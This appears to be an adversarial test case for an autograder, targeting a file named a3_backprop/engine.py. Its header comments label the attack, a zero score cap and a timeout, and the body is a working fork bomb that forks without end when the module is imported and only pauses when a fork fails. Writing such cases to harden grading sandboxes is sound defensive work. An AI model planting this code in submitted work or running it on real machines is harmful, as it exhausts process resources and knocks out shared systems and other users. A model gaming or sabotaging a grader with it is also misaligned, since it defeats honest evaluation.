# target: a3_backprop/engine.py
# needs: slot_uid
# attack: a fork bomb at import (every process keeps forking; a failed fork only pauses it)
# max_score_fraction: 0.0
# reason: timed out after 10 s in import of engine.py
import os as _os
import time as _time

while True:
    try:
        _os.fork()
    except OSError:
        _time.sleep(0.05)
